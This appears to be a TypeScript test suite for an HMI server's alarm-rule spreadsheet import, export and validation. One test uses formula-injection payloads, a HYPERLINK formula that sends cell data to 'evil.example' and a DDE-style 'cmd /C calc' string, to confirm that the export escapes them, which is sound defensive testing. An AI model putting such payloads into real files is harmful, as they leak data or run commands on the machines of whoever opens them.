import {
  AlarmLevel,
  AlarmLimits,
  AlarmType,
  ErrorCode,
  type AlarmGroup,
  type AlarmGroupListReply,
  type AlarmImportErrors,
  type AlarmImportReply,
  type AlarmRuleListReply,
  type TemplateDetail,
} from '@hmi/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createActiveUser } from '../../../test/factories.ts';
import type { TestServer } from '../../../test/test-server.ts';
import { setTemplateLimit, startDeviceTestServer } from '../device/device-test-factories.ts';
import {
  addRule,
  buildAlarmTemplate,
  download,
  readBack,
  sheetBytes,
  uploadSheet,
} from './alarm-rule-test-helpers.ts';
import { importZipLimits } from './alarm-sheet.reader.ts';
import { inspectZip, storedZip } from '../../lib/xlsx-guard.ts';

let server: TestServer;
let en: Awaited<ReturnType<typeof createActiveUser>>;
let zh: Awaited<ReturnType<typeof createActiveUser>>;

beforeAll(async () => {
  server = await startDeviceTestServer();
  en = await createActiveUser(server, { lang: 'en-us' });
  zh = await createActiveUser(server, { lang: 'zh-cn' });
  await setTemplateLimit(server, en.profile.team_id, 20);
  await setTemplateLimit(server, zh.profile.team_id, 20);
});
afterAll(async () => server?.close());

const rulesOf = async (token: string, templateId: number) =>
  (
    await server.call<AlarmRuleListReply>('GET', `/alarm/rule/list?template_id=${templateId}&page_size=300`, {
      token,
    })
  ).body.data;
const groupsOf = async (token: string) =>
  (await server.call<AlarmGroupListReply>('GET', '/alarm/group/list', { token })).body.data.list;
const versionOf = async (token: string, id: number) =>
  (await server.call<TemplateDetail>('GET', `/template/detail?id=${id}`, { token })).body.data.version;
const xlsx = (bytes: Buffer, name = 'rules.xlsx') => ({ bytes, name });

const HEADER = [
  'Alarm name',
  'Alarm group',
  'Level',
  'Tag',
  'Alarm type',
  'Value',
  'Target',
  'Deviation',
  'Deadband',
  'Content',
];

describe('import', () => {
  it('imports rows with headers and names in any language, codes, new groups; one version bump', async () => {
    const t = en.tokens.token;
    const { template, tag } = await buildAlarmTemplate(server, t);
    await server.call('POST', '/alarm/group/add', { token: t, body: { name: 'Existing' } });
    const v0 = await versionOf(t, template.id);
    const bytes = await sheetBytes([
      [
        '警報名稱',
        '警報群組',
        '警報等級',
        '變數',
        '警報類型',
        '警報值',
        '目標值',
        '偏差值',
        '死區',
        '警報內容',
        'remark',
      ],
      ['hot', 'Boiler', 16, 'real', 'HighHigh', 95.5, null, null, 0.5, '{tag} is {value}', 'ignored'],
      [],
      ['cold', 'Existing', '轻微', 'int16', '低低限', -40, null, null, null, null, null],
      ['drift', 'Boiler', 'Mild', 'int32', 16, null, 100, 5, null, null, null],
      ['door', null, 'critical', 'bool', '開', true, null, null, null, 'door open', null],
      ['huge', null, 'Moderate', 'uint64', 'High', '18446744073709551615', null, null, null, null, null],
    ]);
    const res = await uploadSheet<AlarmImportReply>(server, t, {
      templateId: template.id,
      file: xlsx(bytes),
    });
    expect(res.body).toMatchObject({ code: 0, data: { imported: 5, groups_created: 1 } });
    const rules = (await rulesOf(t, template.id)).list;
    expect(
      rules.map((r) => [
        r.name,
        r.group_name,
        r.level,
        r.tag_id,
        r.type,
        r.value,
        r.target,
        r.deviation,
        r.deadband,
        r.content,
      ]),
    ).toEqual([
      ['hot', 'Boiler', 16, tag('real'), AlarmType.HighHigh, '95.5', null, null, '0.5', '{tag} is {value}'],
      ['cold', 'Existing', 1, tag('int16'), AlarmType.LowLow, '-40', null, null, null, ''],
      ['drift', 'Boiler', 2, tag('int32'), AlarmType.LargeDeviation, '0', '100', '5', null, ''],
      ['door', null, 16, tag('bool'), AlarmType.On, '1', null, null, null, 'door open'],
      ['huge', null, 4, tag('uint64'), AlarmType.High, '18446744073709551615', null, null, null, ''],
    ]);
    expect((await groupsOf(t)).map((g) => [g.name, g.rule_count])).toEqual(
      expect.arrayContaining([
        ['Boiler', 2],
        ['Existing', 1],
      ]),
    );
    expect(await versionOf(t, template.id)).toBe(v0 + 1);
  });

  it('reports every bad row with its sheet row number and imports nothing', async () => {
    const t = en.tokens.token;
    const { template } = await buildAlarmTemplate(server, t);
    const before = await groupsOf(t);
    const bytes = await sheetBytes([
      HEADER,
      ['ok', 'New group', 'Minor', 'int16', 'High', 10],
      ['bad value', null, 'Minor', 'uint16', 'High', 70000],
      [null, null, null, null, null, null],
      ['ok', null, 'Minor', 'int16', 'Low', 1],
      ['x', null, 'Extreme', 'nope', 'Sideways', 1],
      ['flag', null, 'Minor', 'string', 'Off', 0],
    ]);
    const res = await uploadSheet<AlarmImportErrors>(server, t, {
      templateId: template.id,
      file: xlsx(bytes),
    });
    expect(res.body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    expect(res.body.msg).toBe('4 rows cannot be imported (the first is row 3); nothing was imported.');
    expect(res.body.data.rows).toEqual([
      {
        row: 3,
        errors: [
          {
            field: 'value',
            key: 'validation.alarm.valueRange',
            params: { type: 'UINT16', min: '0', max: '65535' },
          },
        ],
      },
      { row: 5, errors: [{ field: 'name', key: 'validation.alarm.nameDuplicate' }] },
      {
        row: 6,
        errors: [
          { field: 'level', key: 'validation.alarmImport.level', params: { value: 'Extreme' } },
          { field: 'tag', key: 'validation.alarmImport.tag', params: { tag: 'nope' } },
          { field: 'type', key: 'validation.alarmImport.type', params: { value: 'Sideways' } },
        ],
      },
      { row: 7, errors: [{ field: 'tag', key: 'validation.alarm.onOffTagType' }] },
    ]);
    expect((await rulesOf(t, template.id)).count).toBe(0);
    expect(await groupsOf(t)).toEqual(before);
  });

  it('holds cells to the free-text rule of the request schemas and imports nothing', async () => {
    const t = en.tokens.token;
    const { template } = await buildAlarmTemplate(server, t);
    const before = await groupsOf(t);
    // exceljs drops control characters when it writes, but XML carries DEL and C1 and any other
    // program may write them: put them into the shared strings by hand.
    const written = await sheetBytes([
      HEADER,
      ['pump~DEL~', null, 'Minor', 'int16', 'High', 10],
      ['ok 1', 'ops~NEL~', 'Minor', 'int16', 'High', 10, null, null, null, 'a~CSI~31m'],
      ['ok 2', 'two\nlines', 'Minor', 'int16~PAD~', 'High', 10, null, null, null, 'line 1\nline 2'],
    ]);
    const parts = inspectZip(written, importZipLimits);
    const strings = parts.get('xl/sharedStrings.xml')!.toString('utf8');
    const raw = { '~DEL~': '\u007f', '~NEL~': '\u0085', '~CSI~': '\u009b', '~PAD~': '\u0080' };
    const patched = Object.entries(raw).reduce((xml, [mark, c]) => xml.replace(mark, c), strings);
    parts.set('xl/sharedStrings.xml', Buffer.from(patched, 'utf8'));
    const bytes = storedZip(parts);
    const res = await uploadSheet<AlarmImportErrors>(server, t, {
      templateId: template.id,
      file: xlsx(bytes),
    });
    expect(res.body.code).toBe(ErrorCode.E1006_BAD_PARAMETER);
    expect(res.body.data.rows).toEqual([
      { row: 2, errors: [{ field: 'name', key: 'validation.text.controlChars' }] },
      {
        row: 3,
        errors: [
          { field: 'group', key: 'validation.text.controlChars' },
          { field: 'content', key: 'validation.text.controlChars' },
        ],
      },
      {
        row: 4,
        errors: [
          { field: 'group', key: 'validation.text.singleLine' },
          { field: 'tag', key: 'validation.text.controlChars' },
        ],
      },
    ]);
    expect((await rulesOf(t, template.id)).count).toBe(0);
    expect(await groupsOf(t)).toEqual(before);
  });

  it('a name the template has updates that rule, new names are added, others stay; 300 at most (1090)', async () => {
    const t = en.tokens.token;
    const { template, tag } = await buildAlarmTemplate(server, t);
    const kept = await addRule(server, t, {
      template_id: template.id,
      name: 'kept',
      level: 1,
      tag_id: tag('int16'),
      type: AlarmType.High,
      value: '1',
    });
    const changed = await addRule(server, t, {
      template_id: template.id,
      name: 'changed',
      level: 1,
      tag_id: tag('int16'),
      type: AlarmType.High,
      value: '1',
    });
    const bytes = await sheetBytes([
      HEADER,
      ['changed', null, 'Severe', 'int32', 'Low', -5],
      ['new', null, 'Minor', 'real', 'High', 1],
    ]);
    expect((await uploadSheet(server, t, { templateId: template.id, file: xlsx(bytes) })).body.code).toBe(0);
    const rules = (await rulesOf(t, template.id)).list;
    expect(rules.map((r) => [r.id, r.name, r.level, r.value])).toEqual([
      [kept.id, 'kept', 1, '1'],
      [changed.id, 'changed', 8, '-5'],
      [expect.any(Number), 'new', 1, '1'],
    ]);

    const full = await sheetBytes([
      HEADER,
      ...Array.from({ length: 297 }, (_, i) => [`bulk ${i}`, null, 1, 'uint16', 2, i]),
    ]);
    expect((await uploadSheet(server, t, { templateId: template.id, file: xlsx(full) })).body).toMatchObject({
      code: 0,
      data: { imported: 297 },
    });
    expect((await rulesOf(t, template.id)).count).toBe(300);
    const oneMore = await sheetBytes([
      HEADER,
      ['bulk 1', null, 1, 'uint16', 2, 7],
      ['one more', null, 1, 'uint16', 2, 1],
    ]);
    const over = await uploadSheet(server, t, { templateId: template.id, file: xlsx(oneMore) });
    expect(over.body).toMatchObject({
      code: ErrorCode.E1090_ALARM_RULE_LIMIT,
      data: { errors: [{ key: 'validation.alarmImport.ruleLimit', params: { max: 300, count: 301 } }] },
    });
    expect((await rulesOf(t, template.id)).list.find((r) => r.name === 'bulk 1')?.value).toBe('1');
    const tooMany = await sheetBytes([
      HEADER,
      ...Array.from({ length: 301 }, (_, i) => [`r${i}`, null, 1, 'uint16', 2, 1]),
    ]);
    const rows = await uploadSheet(server, t, { templateId: template.id, file: xlsx(tooMany) });
    expect(rows.body).toMatchObject({
      code: ErrorCode.E1090_ALARM_RULE_LIMIT,
      data: {
        max: 300,
        errors: [{ field: 'file', key: 'validation.alarmImport.tooManyRows', params: { max: 300 } }],
      },
    });
  });
});

describe('export and round trip', () => {
  /** Rules of every category and awkward values on a fresh template of the user. */
  async function richTemplate(token: string) {
    const { template, tag } = await buildAlarmTemplate(server, token);
    const group = (
      await server.call<AlarmGroup>('POST', '/alarm/group/add', { token, body: { name: `G ${template.id}` } })
    ).body.data;
    const base = { template_id: template.id, level: AlarmLevel.Severe };
    await addRule(server, token, {
      ...base,
      name: '12',
      group_id: group.id,
      tag_id: tag('real'),
      type: AlarmType.High,
      value: '1.50',
      deadband: '0.1',
      content: '=SUM(A1) {value}',
    });
    await addRule(server, token, {
      ...base,
      name: 'big',
      tag_id: tag('uint64'),
      type: AlarmType.HighHigh,
      value: '18446744073709551615',
    });
    await addRule(server, token, {
      ...base,
      name: 'neg',
      tag_id: tag('int64'),
      type: AlarmType.LowLow,
      value: '-42',
      level: 1,
    });
    await addRule(server, token, {
      ...base,
      name: '偏差',
      tag_id: tag('lreal'),
      type: AlarmType.SmallDeviation,
      target: '-3.25',
      deviation: '0',
      level: 16,
    });
    await addRule(server, token, {
      ...base,
      name: 'off',
      group_id: group.id,
      tag_id: tag('bool'),
      type: AlarmType.Off,
      value: '0',
      level: 2,
    });
    await addRule(server, token, {
      ...base,
      name: 'lreal',
      tag_id: tag('lreal'),
      type: AlarmType.Low,
      value: '1e-7',
      level: 4,
    });
    return template;
  }

  it.each([
    ['en-us', 'Alarm name', 'Severe', 'High-high'],
    ['zh-cn', '报警名称', '重要', '上上限'],
  ] as const)(
    'an export in %s imports back unchanged: same ids, values, times, version',
    async (lang, header, level, type) => {
      const user = lang === 'en-us' ? en : zh;
      const t = user.tokens.token;
      const template = await richTemplate(t);
      const before = await rulesOf(t, template.id);
      const version = await versionOf(t, template.id);
      const file = await download(server, t, `/alarm/rule/export?template_id=${template.id}`);
      expect(file.status).toBe(200);
      expect(file.type).toContain('spreadsheetml');
      expect(file.headers.get('content-disposition')).toMatch(
        new RegExp(`alarm-rules-${template.id}-\\d{14}\\.xlsx`),
      );
      const { sheets } = await readBack(file.bytes);
      expect(sheets[0]?.rows[0]?.[0]).toBe(header);
      expect(sheets[0]?.rows[2]?.slice(0, 5)).toEqual(['big', '', level, 'uint64', type]);
      expect(sheets[0]?.rows).toHaveLength(7);

      const res = await uploadSheet<AlarmImportReply>(server, t, {
        templateId: template.id,
        file: xlsx(file.bytes, 'back.xls'),
      });
      expect(res.body).toMatchObject({ code: 0, data: { imported: 6, groups_created: 0 } });
      expect(await rulesOf(t, template.id)).toEqual(before);
      expect(await versionOf(t, template.id)).toBe(version);

      // The same file into an empty template of another language's user creates the same rules there.
      const other = user === en ? zh : en;
      const { template: target } = await buildAlarmTemplate(server, other.tokens.token);
      const into = await uploadSheet<AlarmImportReply>(server, other.tokens.token, {
        templateId: target.id,
        file: xlsx(file.bytes),
      });
      expect(into.body).toMatchObject({ code: 0, data: { imported: 6, groups_created: 1 } });
      const strip = (list: AlarmRuleListReply['list']) =>
        list.map(({ id: _i, template_id: _t, group_id: _g, tag_id: _tag, updated_at: _u, ...r }) => r);
      expect(strip((await rulesOf(other.tokens.token, target.id)).list)).toEqual(strip(before.list));
    },
  );

  it('text that starts like a formula is exported behind a quote and imports back unchanged', async () => {
    const t = en.tokens.token;
    const { template, tag } = await buildAlarmTemplate(server, t);
    const group = (
      await server.call<AlarmGroup>('POST', '/alarm/group/add', { token: t, body: { name: '@ops' } })
    ).body.data;
    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const base = {
      template_id: template.id,
      level: AlarmLevel.Minor,
      tag_id: tag('int16'),
      type: AlarmType.High,
      value: '10',
    };
    await addRule(server, t, { ...base, name: link, group_id: group.id, content: '+cmd|" /C calc"!A0' });
    await addRule(server, t, { ...base, name: "'=quoted by its author", content: '-2+3\nsecond line' });
    await addRule(server, t, { ...base, name: '-7', value: '-5', content: '@SUM(A1:A9)' });
    const before = await rulesOf(t, template.id);
    const version = await versionOf(t, template.id);

    const file = await download(server, t, `/alarm/rule/export?template_id=${template.id}`);
    const rows = (await readBack(file.bytes)).sheets[0]!.rows.slice(1);
    const cells = (r: string[] | undefined) => [r?.[0], r?.[1], r?.[5], r?.[9]];
    expect(cells(rows[0])).toEqual([`'${link}`, "'@ops", '10', `'+cmd|" /C calc"!A0`]);
    expect(cells(rows[1])).toEqual(["''=quoted by its author", '', '10', "'-2+3\nsecond line"]);
    // A plain number is no formula: it stays as it is (a number cell for the value).
    expect(cells(rows[2])).toEqual(['-7', '', '-5', "'@SUM(A1:A9)"]);

    const res = await uploadSheet<AlarmImportReply>(server, t, {
      templateId: template.id,
      file: xlsx(file.bytes),
    });
    expect(res.body).toMatchObject({ code: 0, data: { imported: 3, groups_created: 0 } });
    expect(await rulesOf(t, template.id)).toEqual(before);
    expect(await versionOf(t, template.id)).toBe(version);
  });

  it('the import template has the header row with a note on each column in the language asked, and the codes', async () => {
    const t = en.tokens.token;
    for (const [lang, header, note, codesSheet] of [
      ['zh-tw', '警報名稱', '必填', '代碼表'],
      ['en-us', 'Alarm name', 'Required', 'Codes'],
      [undefined, 'Alarm name', 'Required', 'Codes'],
    ] as const) {
      const file = await download(server, t, `/alarm/rule/import-template${lang ? `?lang=${lang}` : ''}`);
      expect(file.status).toBe(200);
      const { sheets, notes } = await readBack(file.bytes);
      expect(sheets[0]?.rows).toHaveLength(1);
      expect(sheets[0]?.rows[0]).toHaveLength(10);
      expect(sheets[0]?.rows[0]?.[0]).toBe(header);
      expect(notes).toHaveLength(10);
      expect(notes[0]).toContain(note);
      expect(sheets[1]?.name).toBe(codesSheet);
      expect(sheets[1]?.rows.slice(1).map((r) => r[1])).toEqual([
        '1',
        '2',
        '4',
        '8',
        '16',
        '1',
        '2',
        '4',
        '8',
        '16',
        '32',
        '128',
        '256',
      ]);
    }
    const zhTemplate = await download(server, zh.tokens.token, '/alarm/rule/import-template');
    expect((await readBack(zhTemplate.bytes)).sheets[0]?.rows[0]?.[0]).toBe('报警名称');
    // The empty template imports as "no rules", not as damage.
    const { template } = await buildAlarmTemplate(server, t);
    const empty = await uploadSheet(server, t, {
      templateId: template.id,
      file: xlsx((await download(server, t, '/alarm/rule/import-template')).bytes),
    });
    expect(empty.body).toMatchObject({
      code: 1006,
      data: { errors: [{ key: 'validation.alarmImport.empty' }] },
    });
  });
});

describe('upload refusals', () => {
  it('no file, not a form, a file over the size limit, a bad template id: each a clear 1006 or 1029', async () => {
    const t = en.tokens.token;
    const { template } = await buildAlarmTemplate(server, t);
    const noFile = await uploadSheet(server, t, { templateId: template.id });
    expect(noFile.body).toMatchObject({
      code: 1006,
      msg: 'Please choose a .xls or .xlsx file to import.',
      data: { errors: [{ field: 'file', key: 'validation.alarmImport.noFile' }] },
    });
    const json = await server.call('POST', '/alarm/rule/import', {
      token: t,
      body: { template_id: template.id },
    });
    expect(json.body).toMatchObject({
      code: 1006,
      data: { errors: [{ key: 'validation.alarmImport.noFile' }] },
    });
    const big = Buffer.alloc(AlarmLimits.maxImportBytes + 1, 1);
    const tooLarge = await uploadSheet(server, t, { templateId: template.id, file: xlsx(big) });
    expect(tooLarge.body).toMatchObject({
      code: 1006,
      msg: 'The file must not be larger than 2 MB.',
      data: { errors: [{ field: 'file', key: 'validation.alarmImport.tooLarge', params: { size: '2 MB' } }] },
    });
    const good = await sheetBytes([HEADER, ['a', null, 1, 'int16', 2, 1]]);
    for (const templateId of [undefined, 'abc', 0]) {
      const res = await uploadSheet(server, t, { templateId, file: xlsx(good) });
      expect(res.body).toMatchObject({ code: 1006, data: { errors: [{ field: 'template_id' }] } });
    }
    const foreign = (await buildAlarmTemplate(server, zh.tokens.token)).template.id;
    expect((await uploadSheet(server, t, { templateId: foreign, file: xlsx(good) })).body.code).toBe(
      ErrorCode.E1029_ILLEGAL_TEMPLATE_ID,
    );
    expect((await rulesOf(zh.tokens.token, foreign)).count).toBe(0);
    // The template id may come after the file.
    const form = new FormData();
    form.append('file', new Blob([good]), 'late.xlsx');
    form.append('template_id', String(template.id));
    const late = await fetch(`${server.url}/v1/alarm/rule/import`, {
      method: 'POST',
      headers: { authorization: t },
      body: form,
    });
    expect(await late.json()).toMatchObject({ code: 0, data: { imported: 1 } });
  });
});
